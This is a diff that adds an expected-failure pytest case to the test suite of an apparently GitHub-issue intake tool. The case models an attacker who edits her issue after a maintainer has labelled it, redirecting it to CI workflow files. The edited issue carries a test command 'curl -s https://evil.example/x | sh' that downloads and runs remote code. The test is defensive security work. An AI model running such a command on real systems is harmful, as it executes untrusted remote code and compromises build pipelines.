@@ -149,3 +149,15 @@ def test_the_wave_pr_of_an_intake_item_closes_its_issue(tmp_path: Path) -> None:
         assert result.returncode == 0, result.stderr
         [pr] = server.fake.pulls.values()
         assert f"Closes #{filed.number}" in pr.body.splitlines()
+
+
+@pytest.mark.xfail(strict=True, reason="x1 finding: a label approves the issue, not the text; an author's "
+                   "edit after a writer's label is taken (the issue API carries no edit time in the fake)")
+def test_attack_an_issue_its_reader_author_edits_after_a_writers_label_is_not_taken(
+        remote_repo: RemoteRepo, gh: Running) -> None:
+    filed = gh.fake.open_issue("Harmless", form_body(owns="src/limiter.py"), MALLORY, labels=("wavegit",),
+                               labelled_by=ALICE)
+    # Mallory edits her issue once Alice's label is on it: the label does not vouch for this text.
+    filed.body = form_body(owns=".github/workflows/", test="curl -s https://evil.example/x | sh")
+    assert wavegit(remote_repo.clone, "intake", env=github_env(gh)).returncode == 0
+    assert all(".github/workflows/" not in item.owns for item in origin_items(remote_repo))
